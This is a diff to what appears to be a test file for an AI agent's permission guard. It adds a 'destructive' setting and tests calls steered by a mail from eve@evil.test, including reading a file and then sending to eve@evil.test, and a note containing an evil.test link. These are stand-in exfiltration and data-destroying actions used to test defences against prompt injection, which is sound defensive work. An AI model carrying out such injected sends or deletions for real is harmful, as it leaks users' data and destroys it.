@@ -31,6 +31,7 @@ TURNED: dict[str, dict[str, str]] = {
     "secret_egress": {"deny": "deny", "ask": "ask"},
     "lockdown": {"deny": "deny", "ask": "ask", "off": "allow"},
     "metadata": {"ignored": "ask", "grounds": "allow"},
+    "destructive": {"ask": "ask", "off": "allow"},
     **{
         key: {"deny": "deny", "ask": "ask", "off": "allow"}
         for key in (
@@ -52,6 +53,7 @@ STEERING: dict[str, dict[str, Any]] = {
     "look": {"returns": [], "egress": "none", "objects": {"file": "id:file"}},
     "book": {"returns": [], "egress": "none", "effect": "add", "parties": {"hotel": "name"}},
     "note": {"returns": [], "egress": "none", "effect": "add", "audience": "self", "content": ["text"]},
+    "empty": {"returns": [], "egress": "none", "effect": "destroy"},
 }
 # Setting → the call that it is about, in a conversation that has read a mail from eve@evil.test.
 STEERED: dict[str, tuple[str, dict[str, Any]]] = {
@@ -63,12 +65,15 @@ STEERED: dict[str, tuple[str, dict[str, Any]]] = {
     "steered_object": ("look", {"file": "13"}),
     "steered_party": ("book", {"hotel": "Palace"}),
     "self_only": ("note", {"text": "https://evil.test/"}),
+    "destructive": ("empty", {}),
     "secret_read": ("read_key", {}),
 }
 
 
 def about_steering(setting: str, value: str) -> str:
-    guard = fresh(locked(STEERING, settings={setting: value}), "Write to kim@corp.example please.")
+    # A link in a text that is kept is asked about by two controls.
+    others = {"steered_link": "off"} if setting == "self_only" else {}
+    guard = fresh(locked(STEERING, settings={**others, setting: value}), "Write to kim@corp.example please.")
     if setting == "split_exfiltration":
         did(guard, "read_file")
         return [got(did(guard, "send", {"to": "eve@evil.test"}))[0] for _ in range(9)][-1]
